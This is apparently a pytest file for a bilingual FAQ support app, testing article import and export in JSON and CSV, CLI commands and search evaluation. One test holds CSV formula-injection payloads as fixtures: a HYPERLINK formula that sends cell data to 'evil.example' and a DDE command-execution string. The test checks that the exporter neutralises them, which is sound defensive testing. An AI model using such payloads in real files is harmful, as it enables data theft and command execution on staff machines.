"""Import and export of articles (JSON and CSV) and the `support faq` commands."""

from __future__ import annotations

import csv
import json
import logging

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select

from faq.importexport import (
    ImportFileError,
    export_articles,
    import_articles,
    read_import_file,
    write_export_file,
)
from faq.index_sync import index_path
from faq.knowledge import search_faq
from faq.models import Article, Category, Phrasing
from support.cli import cli
from tests.conftest import clean_database


def _count(session, model) -> int:
    value = session.scalar(select(func.count()).select_from(model))
    session.commit()
    return value


def test_demo_import_is_idempotent_and_indexed(app, session, demo):
    assert _count(session, Article) == 60 and _count(session, Category) == 6
    again = import_articles(session, demo)
    session.commit()
    assert (again.created, again.updated, again.unchanged) == (0, 0, 60)
    results, language = search_faq("退货运费谁出", app=app)
    assert language == "zh" and results.hits[0].slug == "return-shipping-cost-zh"


def test_changed_rows_update_their_article_and_the_index(app, session, demo):
    demo["articles"][0]["question"] = "How do I order a kettle online?"
    demo["articles"][0]["phrasings"] = ["buying a lamp step by step"]
    counts = import_articles(session, demo)
    session.commit()
    assert (counts.created, counts.updated, counts.unchanged) == (0, 1, 59)
    results, _ = search_faq("lamp step by step", language="en", app=app)
    assert results.hits[0].slug == demo["articles"][0]["slug"]


def test_import_creates_categories_from_article_rows(session):
    data = {
        "articles": [
            {
                "slug": "gift-wrap",
                "category": "gifts",
                "category_name_en": "Gifts",
                "category_name_zh": "礼品",
                "question": "Do you gift-wrap?",
                "answer": "Yes, for free.",
                "published": "false",
            }
        ]
    }
    counts = import_articles(session, data)
    session.commit()
    assert counts.categories_created == 1 and counts.created == 1
    article = session.scalar(select(Article).where(Article.slug == "gift-wrap"))
    assert article.category.name("zh") == "礼品" and article.is_published is False


@pytest.mark.parametrize("suffix", ["json", "csv"])
def test_export_then_import_into_an_empty_database_round_trips(db, session, demo, tmp_path, suffix):
    path = tmp_path / f"faq.{suffix}"
    before = export_articles(session)
    session.commit()
    write_export_file(path, before)
    session.close()  # forget the loaded rows: the ids come back after the clean
    clean_database(db)
    counts = import_articles(session, read_import_file(path))
    session.commit()
    assert counts.created == 60
    after = export_articles(session)
    session.commit()
    key = lambda a: a["slug"]  # noqa: E731
    assert sorted(after["articles"], key=key) == sorted(before["articles"], key=key)


def test_csv_keeps_multiline_answers_and_phrasings(session, demo, tmp_path):
    path = tmp_path / "faq.csv"
    write_export_file(path, export_articles(session))
    session.commit()
    with open(path, encoding="utf-8", newline="") as fh:
        rows = {row["slug"]: row for row in csv.DictReader(fh)}
    row = rows["place-order-en"]
    assert row["category_name_zh"] == "订购与价格" and row["published"] == "true"
    assert row["answer"].count("\n") >= 2
    assert row["phrasings"].splitlines() == demo["articles"][0]["phrasings"]


def test_csv_export_opens_as_text_in_a_spreadsheet_and_imports_back(tmp_path):
    """Phrasings are customers' searches the FAQ learnt (approved by repetition): one starting
    with "=" was a formula in the exported file, run when staff open it in a spreadsheet."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0"]
    article = {
        "slug": "kettle",
        "language": "en",
        "category": "care",
        "question": "@SUM(1+1)",
        "answer": "- Unplug it.\n- Let it cool.",
        "phrasings": [*hostile, "'=already quoted", "how do I clean it"],
        "published": True,
    }
    path = tmp_path / "faq.csv"
    write_export_file(path, {"categories": [], "articles": [article]})
    with open(path, encoding="utf-8", newline="") as fh:
        [row] = list(csv.DictReader(fh))
    assert all(value[:1] not in ("=", "+", "-", "@") for value in row.values())
    assert row["question"] == "'@SUM(1+1)" and row["answer"].startswith("'- Unplug")
    [back] = read_import_file(path)["articles"]
    assert back["question"] == "@SUM(1+1)" and back["answer"] == article["answer"]
    assert back["phrasings"].splitlines() == article["phrasings"]


def test_bad_files_get_a_clear_message(session, tmp_path):
    missing = tmp_path / "bad.csv"
    missing.write_text("slug,question\nx,y\n", encoding="utf-8")
    with pytest.raises(ImportFileError, match="missing column.*answer.*category"):
        read_import_file(missing)
    with pytest.raises(ImportFileError, match="use a .json or .csv file"):
        read_import_file(tmp_path / "faq.xlsx")
    with pytest.raises(ImportFileError, match=r"article 1: slug is required"):
        import_articles(session, {"articles": [{"question": "Q?", "answer": "A."}]})
    with pytest.raises(ImportFileError, match=r"article 1 \(x\): language: one of"):
        import_articles(
            session,
            {
                "articles": [
                    {
                        "slug": "x",
                        "category": "c",
                        "question": "Q?",
                        "answer": "A.",
                        "language": "fr",
                    }
                ]
            },
        )


# -- commands -----------------------------------------------------------------------------------


@pytest.fixture
def run(app, database_url, tmp_path):
    """`support ...` against the test database and the test app's index folder."""
    env = {
        "SUPPORT_DATABASE_URL": database_url,
        "SUPPORT_SECRET_KEY": "test-secret-key-for-the-cli",
        "SUPPORT_FAQ_INDEX_DIR": str(index_path(app)),
    }
    instance = tmp_path / "cli-instance"

    def invoke(*args: str):
        return CliRunner().invoke(cli, ["--instance", str(instance), *args], env=env)

    return invoke


@pytest.mark.usefixtures("demo_faq_vectors")  # the demo FAQ's article texts, embedded once a run
def test_faq_commands_import_export_reindex_evaluate(app, session, run, tmp_path):
    from tests.faq.conftest import DEMO_CONTENT

    result = run("faq", "import", str(DEMO_CONTENT))
    assert result.exit_code == 0, result.output
    assert "60 created" in result.output
    assert "0 created, 0 updated, 60 unchanged" in run("faq", "import", str(DEMO_CONTENT)).output

    exported = tmp_path / "out.json"
    result = run("faq", "export", str(exported))
    assert result.exit_code == 0 and "exported 60 articles" in result.output
    assert len(json.loads(exported.read_text(encoding="utf-8"))["articles"]) == 60

    result = run("faq", "reindex")
    assert result.exit_code == 0 and "60 published articles" in result.output

    eval_file = tmp_path / "eval.csv"
    eval_file.write_text(
        "query,expected\n"
        "how long until my refund arrives,refund-time-en\n"
        "退款多久到账,refund-time-zh\n"
        "can I pay with a goat,payment-methods-en\n"
        "what is the weather in paris tomorrow,\n",  # no article answers it
        encoding="utf-8",
    )
    result = run("faq", "evaluate", str(eval_file))
    assert result.exit_code == 0, result.output
    assert "queries:   3 answerable, 1 no article answers" in result.output
    assert "Recall@1:" in result.output and "Recall@5:" in result.output
    assert "MRR@10:" in result.output
    assert "  precision:" in result.output and "  coverage:" in result.output
    assert "false-offer rate: 0.000 (of 1 no article answers" in result.output


@pytest.mark.usefixtures("demo_faq_vectors")  # the demo FAQ's article texts, embedded once a run
def test_evaluate_on_the_demo_set_reports_real_figures(run):
    from faq.evaluate import DEMO_CONTENT, DEMO_EVAL

    assert run("faq", "import", str(DEMO_CONTENT)).exit_code == 0
    result = run("faq", "evaluate", str(DEMO_EVAL))
    assert result.exit_code == 0, result.output
    recall_at_5 = float(result.output.split("Recall@5:")[1].split()[0])
    assert recall_at_5 >= 0.8, result.output


def test_import_command_says_its_summary_once(run, tmp_path, caplog):
    # The terminal showed it twice: the importer's log line, then the command's own line.
    faq_file = tmp_path / "one.csv"
    faq_file.write_text(
        "slug,category,question,answer\n"
        "kettle-descale-en,care,How do I descale my kettle?,Boil water with vinegar.\n",
        encoding="utf-8",
    )
    caplog.set_level(logging.INFO)
    result = run("faq", "import", str(faq_file))
    assert result.exit_code == 0, result.output
    said = result.output + "".join(r.getMessage() + "\n" for r in caplog.records)
    assert said.count("1 created, 0 updated, 0 unchanged") == 1, said


def test_import_command_reports_a_bad_file_without_a_traceback(run, tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text("{not json", encoding="utf-8")
    result = run("faq", "import", str(bad))
    assert result.exit_code == 1
    assert "not valid JSON" in result.output and "Traceback" not in result.output


def test_phrasings_survive_an_update_as_approved_only(session, demo):
    slug = demo["articles"][0]["slug"]
    article = session.scalar(select(Article).where(Article.slug == slug))
    session.add(
        Phrasing(article=article, text="a proposal waiting", status="proposed", source="search")
    )
    session.commit()
    demo["articles"][0]["phrasings"] = ["only this one"]
    import_articles(session, demo)
    session.commit()
    rows = session.execute(
        select(Phrasing.text, Phrasing.status)
        .where(Phrasing.article_id == article.id)
        .order_by(Phrasing.text)
    ).all()
    assert [tuple(r) for r in rows] == [
        ("a proposal waiting", "proposed"),
        ("only this one", "approved"),
    ]
